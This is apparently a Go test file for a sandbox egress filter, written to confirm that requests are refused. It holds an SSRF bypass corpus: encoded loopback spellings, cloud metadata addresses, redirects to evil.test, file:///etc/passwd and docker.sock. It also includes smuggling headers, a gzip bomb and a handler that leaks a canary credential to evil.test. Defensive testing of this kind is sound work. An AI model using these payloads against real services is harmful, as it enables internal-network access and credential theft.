package egress_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/drawbridge-sdk/drawbridge/sandbox/egress"
	"github.com/drawbridge-sdk/drawbridge/sandbox/egress/egresstest"
)

// a hostSpelling is one way to write a host that leads elsewhere than a filter
// thinks.
type hostSpelling struct {
	number int
	host   string // as between "http://" and "/"
}

// spellings are cases 1-50 and 54-57 of the corpus, each of which reached
// loopback with some resolver or filter.
var spellings = []hostSpelling{
	{1, "127.1"}, {2, "127.0.1"}, {3, "2130706433"}, {4, "0x7f000001"}, {5, "0x7f.0.0.1"}, {6, "0x7f.1"}, {7, "017700000001"}, {8, "0177.0.0.1"}, {9, "0177.1"},
	{10, "127.0.0.01"}, {11, "0"}, {12, "0.0"}, {13, "0.0.0.0"}, {14, "[::]"}, {15, "127.127.127.127"}, {16, "[::ffff:127.0.0.1]"}, {17, "[::ffff:7f00:1]"},
	{18, "[0:0:0:0:0:0:0:1]"}, {18, "[::1]"}, {19, "[::127.0.0.1]"}, {19, "[::7f00:1]"}, {20, "[::ffff:0:127.0.0.1]"}, {20, "[::ffff:0:7f00:1]"}, {21, "[64:ff9b::7f00:1]"}, {21, "[64:ff9b::a9fe:a9fe]"},
	{22, "[64:ff9b:1::7f00:1]"}, {23, "[2002:7f00:1::]"}, {24, "[2001:0:7f00:1::]"}, {24, "[2001:0:7f00:1::1]"}, {25, "[2606:4700::5efe:7f00:1]"}, {26, "[fec0::1]"}, {27, "[fe80::1%25lo]"}, {27, "[fe80::1]"},
	{28, "[::1%25allowed.com]"}, {29, "[::ffff:127.0.0.1%25.allowed.com]"},
	{30, "１２７.０.０.１"}, {31, "127。0。0。1"}, {32, "①②⑦.⓪.⓪.①"}, {33, "ｌｏｃａｌｈｏｓｔ"}, {34, "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ"}, {35, "loc\u00adalhost"}, {36, "local\u200bhost"}, {37, "localhoſt"},
	{38, "LOCALHOST"}, {38, "localhost"}, {39, "localhost."}, {40, "foo.localhost"}, {41, "vm"}, {41, "runsc"}, {42, "ip6-localhost"},
	{43, "allowed.com@127.0.0.1"}, {44, "allowed.com:80@127.0.0.1"}, {45, "127.0.0.1#@allowed.com"}, {46, "127.0.0.1?@allowed.com"},
	{47, `allowed.com\@127.0.0.1`}, {48, "127.0.0.1%00.allowed.com"}, {49, "%31%32%37.0.0.1"}, {50, "[127.0.0.1]"}, {50, "[allowed.com]"}, {50, "[::1].allowed.com"},
	{54, "[[::1]]"}, {55, "169.254.169.254"}, {55, "169.254.170.2"}, {56, "[fd00:ec2::254]"}, {56, "[fd20:ce::254]"}, {57, "metadata.google.internal"}, {57, "metadata"}, {57, "instance-data"},
	{58, "100.64.0.1"}, {58, "100.100.100.200"}, {59, "168.63.129.16"}, {59, "192.0.0.192"},
	{60, "198.18.0.1"}, {60, "192.0.2.1"}, {60, "203.0.113.1"}, {60, "240.0.0.1"}, {60, "255.255.255.255"}, {60, "224.0.0.1"}, {60, "[ff02::1]"},
}

// lenient resolves like the worst resolver there is: every text leads to
// loopback. Whoever asks it and dials has been caught.
func lenient(t *testing.T, dials *int) *egress.Options {
	return &egress.Options{
		Resolve: func(context.Context, string) ([]netip.Addr, error) { return addrs("127.0.0.1"), nil },
		Dial: func(_ context.Context, a netip.AddrPort) (net.Conn, error) {
			*dials++
			t.Errorf("dialled %s", a)
			return nil, errors.New("dialled")
		},
	}
}

// S3, cases 1-50 and 54-60: no spelling leads where no profile may, neither
// written by the administrator nor by a connector, nor in a redirect.
func TestCorpusHosts_S3(t *testing.T) {
	for _, row := range spellings {
		t.Run(fmt.Sprintf("case %d %q", row.number, row.host), func(t *testing.T) {
			dials := 0
			opts := lenient(t, &dials)

			// As the base of a profile: refused by New, or for its address.
			e, err := egress.New(egress.Profile{Name: "x", BaseURL: "http://" + row.host, Plaintext: true}, opts)
			if err == nil {
				s := e.Open(t.Context(), nil)
				defer s.Close()
				_, err = s.RoundTrip(request(t, "GET", e.BaseURL()+"/", ""))
				require.Equal(t, egress.ReasonAddress, failed(t, err).Reason)
			}

			// In a request of a connector whose profile is another.
			s := session(t, egress.Profile{Name: "x", BaseURL: "http://allowed.com", Plaintext: true}, opts, nil)
			if u, err := url.Parse("http://" + row.host + "/"); err == nil {
				_, err = s.RoundTrip(&http.Request{Method: "GET", URL: u, Header: http.Header{}})
				require.Equal(t, egress.ReasonDestination, failed(t, err).Reason)
			}

			// Put together by hand, past every parser.
			_, err = s.RoundTrip(&http.Request{Method: "GET", URL: &url.URL{Scheme: "http", Host: row.host, Path: "/"}, Header: http.Header{}})
			require.Equal(t, egress.ReasonDestination, failed(t, err).Reason)
			require.Zero(t, dials)

			// As the one spelling that a filter compares.
			if name, err := egress.Host(strings.Trim(row.host, "[]")); err == nil {
				_, err = egress.Dial(t.Context(), name, 80, nil, opts)
				require.Equal(t, egress.ReasonAddress, failed(t, err).Reason)
			}
		})
	}
}

// S3, cases 51-53: what is compared is the whole name, in one spelling.
func TestCorpusNames_S3(t *testing.T) {
	for in, want := range map[string]string{"allowed.com": "allowed.com", "allowed.com.": "allowed.com", "ALLOWED.com": "allowed.com", "8.8.8.8": "8.8.8.8", "2606:4700::1": "2606:4700::1"} {
		got, err := egress.Host(in)
		require.NoError(t, err, "case 51: %q", in)
		require.Equal(t, want, got)
	}
	for _, in := range []string{"", ".", "..", "allowed.com..", "a b", "a\x00.com", "a\r.com", "a\n.com", "a%00.com", "a%.com", "a/b", "a@b", "a:80", "[::1]", "::1%lo", "127.1", "ⓐ.com", "a..b", "-a.com", "*.com", "0:0::1"} {
		_, err := egress.Host(in)
		require.Error(t, err, "case 53: %q", in)
		require.NotContains(t, err.Error(), "a b")
	}
	dials := 0
	s := session(t, egress.Profile{Name: "x", BaseURL: "http://allowed.com", Plaintext: true}, lenient(t, &dials), nil)
	for _, host := range []string{"allowed.com.", "allowed.com.evil.test", "evilallowed.com", "xallowed.com", "x.allowed.com", "allowed.co", "allowed.com:81", "allowed.com:080"} {
		_, err := s.RoundTrip(&http.Request{Method: "GET", URL: &url.URL{Scheme: "http", Host: host, Path: "/"}, Header: http.Header{}})
		require.Equal(t, egress.ReasonDestination, failed(t, err).Reason, "case 52: %q", host)
	}
	require.Zero(t, dials)
}

// S3, case 61: this machine's own addresses, also public ones. A machine of its
// own kind is not at hand, so its interfaces are taken as they are.
func TestCorpusOwnAddress_S3(t *testing.T) {
	list, err := net.InterfaceAddrs()
	require.NoError(t, err)
	dials := 0
	for _, a := range list {
		ip, _ := netip.AddrFromSlice(a.(*net.IPNet).IP)
		ip = ip.Unmap()
		_, err := egress.Dial(t.Context(), ip.WithZone("").String(), 80, nil, lenient(t, &dials))
		require.Equal(t, egress.ReasonAddress, failed(t, err).Reason, "case 61: %s", ip)
	}
	require.Zero(t, dials)
}

// S3, cases 62-69: what a name server can do.
func TestCorpusDNS_S3(t *testing.T) {
	private := egress.Profile{Name: "x", BaseURL: "http://allowed.com", Plaintext: true, Private: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}}
	public := private
	public.Private = nil
	many := make([]string, 40)
	for i := range many {
		many[i] = "8.8.8." + strconv.Itoa(i)
	}
	for _, row := range []struct {
		says    string
		profile egress.Profile
		answers [][]string // of one look-up after another
		dialled []string
		reason  egress.Reason
	}{
		{"case 62: public, then private", public, [][]string{{"8.8.8.8"}, {"127.0.0.1"}}, []string{"8.8.8.8:80"}, egress.ReasonDial},
		{"case 63: denied and allowed", public, [][]string{{"127.0.0.1", "8.8.8.8"}}, nil, egress.ReasonAddress},
		{"case 63: allowed and denied", public, [][]string{{"8.8.8.8", "127.0.0.1"}}, nil, egress.ReasonAddress},
		{"case 64: the public one does not answer", public, [][]string{{"8.8.8.8", "10.0.0.1"}}, nil, egress.ReasonAddress},
		{"case 65: a chain of names into the inside", public, [][]string{{"10.0.0.1"}}, nil, egress.ReasonAddress},
		{"case 66: AAAA private, A public", public, [][]string{{"fd00::1", "8.8.8.8"}}, nil, egress.ReasonAddress},
		{"case 66: permitted range, the other family not", private, [][]string{{"10.0.0.1", "fd00::1"}}, nil, egress.ReasonAddress},
		{"case 68: no answer", public, [][]string{{}}, nil, egress.ReasonDial},
		{"case 68: one bad among many", public, [][]string{append(many[:39:39], "169.254.169.254")}, nil, egress.ReasonAddress},
	} {
		lookups := 0
		var dialled []string
		opts := &egress.Options{
			Resolve: func(context.Context, string) ([]netip.Addr, error) {
				lookups++
				return addrs(row.answers[min(lookups, len(row.answers))-1]...), nil
			},
			Dial: func(_ context.Context, a netip.AddrPort) (net.Conn, error) {
				dialled = append(dialled, a.String())
				return nil, errors.New("nobody there")
			},
		}
		s := session(t, row.profile, opts, nil)
		_, err := s.RoundTrip(request(t, "POST", "http://allowed.com/", ""))
		require.Equal(t, row.reason, failed(t, err).Reason, row.says)
		require.Equal(t, row.dialled, dialled, row.says)
		require.Equal(t, 1, lookups, "%s: one look-up for each connection", row.says)
	}

	// Case 68: of many, sixteen are tried; a slow name server ends with the limit.
	n := 0
	s := session(t, public, &egress.Options{
		Resolve: func(context.Context, string) ([]netip.Addr, error) { return addrs(many...), nil },
		Dial:    func(context.Context, netip.AddrPort) (net.Conn, error) { n++; return nil, errors.New("nobody there") },
	}, nil)
	_, err := s.RoundTrip(request(t, "POST", "http://allowed.com/", ""))
	require.Equal(t, egress.ReasonDial, failed(t, err).Reason)
	require.Equal(t, 16, n)
	synctest.Test(t, func(t *testing.T) {
		s := session(t, public, &egress.Options{Resolve: func(ctx context.Context, _ string) ([]netip.Addr, error) {
			<-ctx.Done()
			return nil, ctx.Err()
		}}, nil)
		start := time.Now()
		_, err := s.RoundTrip(request(t, "GET", "http://allowed.com/", ""))
		require.Equal(t, egress.ReasonTimeout, failed(t, err).Reason)
		require.Equal(t, 5*time.Second, time.Since(start))
	})

	// Case 67: a permitted address is permitted on the profile's port only.
	dials := 0
	s = session(t, egress.Profile{Name: "x", BaseURL: "http://10.0.0.1:8080", Plaintext: true, Private: private.Private}, lenient(t, &dials), nil)
	_, err = s.RoundTrip(request(t, "GET", "http://10.0.0.1:22/", ""))
	require.Equal(t, egress.ReasonDestination, failed(t, err).Reason, "case 67")
	require.Zero(t, dials)

	// Case 69: a name with a dot is absolute for the system's resolver.
	_, err = egress.Dial(t.Context(), "localhost", 80, nil, nil)
	require.Equal(t, egress.ReasonAddress, failed(t, err).Reason, "case 69: found in the hosts file, and refused")
}

// S3, cases 70-76: redirects. The secret is in the headers of no request that
// the handler has, so none can take it along; P-11, P-13: it goes to the
// configured origin on every page and to no other.
func TestCorpusRedirects_S3(t *testing.T) {
	const secret = "canary-credential"
	var hosts []string
	target := ""
	h := func(w http.ResponseWriter, r *http.Request) {
		hosts = append(hosts, r.Host+r.URL.Path+" "+r.Header.Get("X-Api-Key"))
		if r.URL.Path == "/from" || strings.HasPrefix(r.URL.Path, "/code/") {
			code := 302
			if c, ok := strings.CutPrefix(r.URL.Path, "/code/"); ok {
				code, _ = strconv.Atoi(c)
			}
			w.Header().Set("Location", target)
			w.WriteHeader(code)
		}
	}
	hooks := &egress.Hooks{Authorize: func(_ context.Context, _ string, r *http.Request) error {
		r.Header.Set("X-Api-Key", secret)
		return nil
	}}
	s := open(t, h, hooks, func(p *egress.Profile) { p.Redirects = 10 })
	for says, to := range map[string]string{
		"case 70: private": "http://10.0.0.1/", "case 70: metadata": "http://169.254.169.254/", "case 70: another host": "http://evil.test/", "case 70: without a scheme": "//evil.test/x",
		"case 70: no host": "http:///etc/passwd", "case 70: a file": "file:///etc/passwd", "case 70: gopher": "gopher://evil.test/", "case 70: a socket": "unix:/run/docker.sock",
		"case 71: another scheme": "https://provider.test/", "case 72: another port": "http://provider.test:8080/", "case 73: another host": "http://evil.test/x",
		"case 75: a user": "http://user:pw@provider.test/to", "case 76: a suffix": "http://provider.test.evil.test/", "case 76: a twin in case": "http://PROVIDER.test./",
		"P-11: the host as user": "http://provider.test@evil.test/", "P-11: backslashes": `\\evil.test`,
	} {
		hosts, target = nil, to
		resp, err := s.Client().Do(request(t, "GET", egresstest.Base+"/from", ""))
		if err == nil {
			require.Equal(t, 302, resp.StatusCode, says)
			resp.Body.Close()
		}
		for _, seen := range hosts {
			require.True(t, strings.HasPrefix(seen, "provider.test/"), "%s: %s", says, seen)
		}
	}
	for _, code := range []int{307, 308, 302, 303} {
		hosts, target = nil, "http://evil.test/"
		resp, err := s.Client().Do(request(t, "POST", egresstest.Base+"/code/"+strconv.Itoa(code), "the body"))
		require.NoError(t, err, "case 74")
		resp.Body.Close()
		require.Equal(t, code, resp.StatusCode, "case 74: the redirect is the answer")
		require.Len(t, hosts, 1)
	}
	for _, to := range []string{"/page2", "http://provider.test/page2", "http://provider.test:80/page2"} {
		hosts, target = nil, to
		resp, err := s.Client().Do(request(t, "GET", egresstest.Base+"/from", ""))
		require.NoError(t, err)
		require.Equal(t, 200, resp.StatusCode, "P-13 %s", to)
		resp.Body.Close()
		require.Len(t, hosts, 2)
		require.True(t, strings.HasSuffix(hosts[1], "/page2 "+secret), "P-13: the same credential on the next page")
		require.NotContains(t, fmt.Sprint(resp.Request.Header), secret)
	}
}

// S3, cases 77-82, 84, 86-89: shapes of requests and answers.
func TestCorpusHTTP_S3(t *testing.T) {
	t.Setenv("HTTP_PROXY", "http://127.0.0.1:1") // case 77: see TestNoProxy_S3
	t.Setenv("ALL_PROXY", "http://127.0.0.1:1")
	var last *http.Request
	s := open(t, func(w http.ResponseWriter, r *http.Request) { last = r }, &egress.Hooks{Authorize: func(_ context.Context, _ string, r *http.Request) error {
		r.Header.Set("Authorization", "Bearer canary-credential")
		return nil
	}})
	good := func() *http.Request { return request(t, "GET", egresstest.Base+"/x", "") }
	_, err := s.RoundTrip(good())
	require.NoError(t, err, "case 77: no proxy of the environment")
	require.Equal(t, "provider.test", last.Host)
	for says, spoil := range map[string]func(*http.Request){
		"case 80: a Host":             func(r *http.Request) { r.Host = "evil.test" },
		"case 80: opaque":             func(r *http.Request) { r.URL.Opaque = "//169.254.169.254/latest" },
		"case 81: CONNECT":            func(r *http.Request) { r.Method = "CONNECT" },
		"case 81: CONNECT, opaque":    func(r *http.Request) { r.Method, r.URL.Opaque = "CONNECT", "evil.test:443" },
		"case 82: an upgrade":         func(r *http.Request) { r.Header.Set("Upgrade", "websocket") },
		"case 82: HTTP/2":             func(r *http.Request) { r.Header.Set("HTTP2-Settings", "x") },
		"case 86: TRACE":              func(r *http.Request) { r.Method = "TRACE" },
		"case 87: a Host in a header": func(r *http.Request) { r.Header.Set("Host", "evil.test") },
		"case 88: up":                 func(r *http.Request) { r.URL.Path = "/public/../admin" },
		"case 88: up, escaped":        func(r *http.Request) { r.URL.Path, r.URL.RawPath = "/public/../admin", "/public/%2e%2e/admin" },
		"case 88: a backslash":        func(r *http.Request) { r.URL.Path = `/public\..\admin` },
		"case 88: two slashes":        func(r *http.Request) { r.URL.Path = "/public//admin" },
		"case 89: a length":           func(r *http.Request) { r.Header.Set("Transfer-Encoding", "chunked") },
		"case 89: Connection":         func(r *http.Request) { r.Header.Set("Connection", "Authorization") },
		"case 89: a proxy's":          func(r *http.Request) { r.Header.Set("Proxy-Connection", "Authorization") },
		"case 147: a credential":      func(r *http.Request) { r.Header.Set("Authorization", "Bearer mine") },
	} {
		last = nil
		r := good()
		spoil(r)
		_, err := s.RoundTrip(r)
		e := failed(t, err)
		require.Equal(t, egress.PhaseNotSent, e.Phase, says)
		require.Equal(t, egress.ReasonDestination, e.Reason, says)
		require.Nil(t, last, says)
	}
	// Case 89: a length that the handler claims is not believed.
	r := request(t, "POST", egresstest.Base+"/x", "four")
	r.ContentLength, r.TransferEncoding = 2, []string{"chunked"}
	if _, err := s.RoundTrip(r); err == nil {
		require.Empty(t, last.TransferEncoding)
	}

	for says, wire := range map[string]string{
		"case 82: 101 unasked":   "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\nraw",
		"case 84: large headers": "HTTP/1.1 200 OK\r\nX-Large: " + strings.Repeat("x", 4<<20) + "\r\nContent-Length: 0\r\n\r\n",
		"case 89: two lengths":   "HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
	} {
		srv := serve(t, func(_ int, c net.Conn, _ *http.Request) bool { return say(wire)(c) })
		_, err := session(t, srv.profile(), nil, nil).RoundTrip(request(t, "GET", srv.profile().BaseURL+"/", ""))
		failed(t, err)
		require.NotContains(t, err.Error(), "raw", says)
	}
}

// S3, case 78, 79: a connection serves one profile at one host, and goes when
// the profile does.
func TestCorpusPools_S3(t *testing.T) {
	srv := serve(t, func(_ int, c net.Conn, _ *http.Request) bool { return !say(answer("", "x"))(c) })
	e, err := egress.New(srv.profile(), nil)
	require.NoError(t, err)
	get := func(e *egress.Endpoint) {
		s := e.Open(t.Context(), nil)
		defer s.Close()
		_, err := s.RoundTrip(request(t, "GET", e.BaseURL()+"/", ""))
		require.NoError(t, err)
	}
	get(e)
	get(e)
	_, conns := srv.counts()
	require.Equal(t, 1, conns, "kept alive")
	changed, err := egress.New(srv.profile(), nil)
	require.NoError(t, err)
	t.Cleanup(changed.CloseIdleConnections)
	e.CloseIdleConnections()
	get(changed)
	_, conns = srv.counts()
	require.Equal(t, 2, conns, "case 78: a changed profile has connections of its own")

	s := e.Open(t.Context(), nil)
	s.Close()
	_, err = s.RoundTrip(request(t, "GET", e.BaseURL()+"/", ""))
	require.Equal(t, egress.ReasonOver, failed(t, err).Reason, "case 78: nor does an old session")
	e.CloseIdleConnections()
}

// S3, case 83, 85: how much and how slowly.
func TestCorpusAmounts_S3(t *testing.T) {
	var bomb bytes.Buffer
	z := gzip.NewWriter(&bomb)
	for range 200 {
		_, _ = z.Write(make([]byte, 1<<20))
	}
	require.NoError(t, z.Close())
	var twice bytes.Buffer
	z = gzip.NewWriter(&twice)
	_, _ = z.Write(bomb.Bytes())
	require.NoError(t, z.Close())
	for says, row := range map[string]struct{ encoding, body string }{
		"case 83: 200 MB":       {"gzip", bomb.String()},
		"case 83: a chain":      {"gzip, gzip", twice.String()},
		"case 83: zstd":         {"zstd", "x"},
		"case 83: brotli":       {"br", "x"},
		"case 83: not asked of": {"deflate", "x"},
	} {
		s := open(t, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Encoding", row.encoding)
			_, _ = io.WriteString(w, row.body)
		}, nil)
		_, err := s.RoundTrip(request(t, "GET", egresstest.Base+"/", ""))
		e := failed(t, err)
		require.Contains(t, []egress.Reason{egress.ReasonTooLarge, egress.ReasonBroken}, e.Reason, says)
	}
	synctest.Test(t, func(t *testing.T) {
		s := open(t, func(w http.ResponseWriter, r *http.Request) {
			for r.Context().Err() == nil {
				if _, err := io.WriteString(w, "x"); err != nil {
					return
				}
				_ = http.NewResponseController(w).Flush()
				select {
				case <-r.Context().Done():
				case <-time.After(100 * time.Millisecond):
				}
			}
		}, nil)
		start := time.Now()
		_, err := s.RoundTrip(request(t, "GET", egresstest.Base+"/", ""))
		require.Equal(t, egress.ReasonTimeout, failed(t, err).Reason, "case 85: a byte at a time ends with the whole")
		require.Equal(t, 30*time.Second, time.Since(start))
	})
}

// S3, R10, cases 147-150 and K-01 to K-03, K-06, K-07: the credential on the
// wire. Case 147 in all its forms is TestCanary_R10.
func TestCorpusCredentials_S3_R10(t *testing.T) {
	const secret = "canary-credential-1"
	query := &egress.Hooks{Authorize: func(_ context.Context, origin string, r *http.Request) error {
		r.URL.RawQuery = "api_key=" + secret
		r.Header.Set("X-Api-Key", secret)
		return nil
	}}
	refuse := &egress.Options{
		Resolve: func(context.Context, string) ([]netip.Addr, error) { return addrs("8.8.8.8"), nil },
		Dial: func(context.Context, netip.AddrPort) (net.Conn, error) {
			return nil, &url.Error{Op: "Get", URL: "http://x/?api_key=" + secret, Err: fmt.Errorf("inner: %w", errors.New("refused "+secret))}
		},
	}
	p := egress.Profile{Name: "x", BaseURL: "http://allowed.com", Plaintext: true}
	l := &log{}
	query.Observe = l.observe
	s := session(t, p, refuse, query)
	_, err := s.RoundTrip(request(t, "GET", "http://allowed.com/x?q=1", ""))
	require.NotContains(t, everywhere(nil, err, l), secret, "case 148, K-01, K-02: error text")
	_, err = s.Client().Do(request(t, "GET", "http://allowed.com/x?q=1", ""))
	require.NotContains(t, fmt.Sprintf("%v %+v %#v %q", err, err, err, err), secret, "case 148: the error of net/http around it")
	_, err = egress.New(egress.Profile{Name: "x", BaseURL: "https://user:" + secret + "\n@h/"}, nil)
	require.Error(t, err)
	require.NotContains(t, err.Error(), secret, "K-03: the error of a parser")

	// Case 148: a panic of a hook and the attributes of a trace are the host's;
	// what a handler can trace is TestHandlersTraceSeesNothing_R10.
	// Case 148: a redirect with the secret in its address.
	s = open(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "http://evil.test/?k="+r.Header.Get("X-Api-Key"))
		w.WriteHeader(302)
		_, _ = io.WriteString(w, "<a href=\"http://evil.test/?k="+r.URL.RawQuery+"\">")
	}, query)
	resp, err := s.Client().Do(request(t, "GET", egresstest.Base+"/x", ""))
	require.NoError(t, err)
	require.NotContains(t, everywhere(resp, nil, l), secret, "case 148: Location")

	// Case 149: who puts a credential on is told the origin, and each session
	// has its own: one provider's never reaches another.
	var seen []string
	two := func(name, key string) *egress.Session {
		prof, opts := egresstest.Serve(t, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			seen = append(seen, r.Host+" "+r.Header.Get("X-Api-Key"))
		}))
		prof.Name, prof.BaseURL = name, "http://"+name+".test"
		return session(t, prof, opts, &egress.Hooks{Authorize: func(_ context.Context, origin string, r *http.Request) error {
			if origin != "http://"+name+".test:80" {
				return errors.New("another origin")
			}
			r.Header.Set("X-Api-Key", key)
			return nil
		}})
	}
	a, b := two("a", "key-of-a-0001"), two("b", "key-of-b-0002")
	for _, s := range []*egress.Session{a, b} {
		for _, host := range []string{"a", "b"} {
			_, _ = s.RoundTrip(request(t, "GET", "http://"+host+".test/", ""))
		}
	}
	require.Equal(t, []string{"a.test key-of-a-0001", "b.test key-of-b-0002"}, seen, "case 149")

	// Case 150: there are no sentinels in a handler's hands; a handler that
	// writes what looks like one, or what was redacted, sends just that.
	var got string
	s = open(t, func(_ http.ResponseWriter, r *http.Request) { got = r.Header.Get("X-Other") }, query)
	r := request(t, "GET", egresstest.Base+"/", "")
	r.Header.Set("X-Other", "[redacted]")
	_, err = s.RoundTrip(r)
	require.NoError(t, err)
	require.Equal(t, "[redacted]", got, "case 150")
}

// Every number of the corpus that is this package's is a test that names it.
func TestCorpusIsWhole(t *testing.T) {
	text, err := os.ReadFile("corpus_test.go")
	require.NoError(t, err)
	named := map[int]bool{}
	for _, row := range spellings {
		named[row.number] = true
	}
	for _, m := range regexp.MustCompile(`"[^"\n]*[Cc]ase (\d+)`).FindAllStringSubmatch(string(text), -1) {
		n, _ := strconv.Atoi(m[1])
		named[n] = true
	}
	for n := 1; n <= 89; n++ {
		if n != 79 { // TestCorpusPools_S3: there is no HTTP/2, so nothing to coalesce
			require.True(t, named[n], "case %d", n)
		}
	}
}
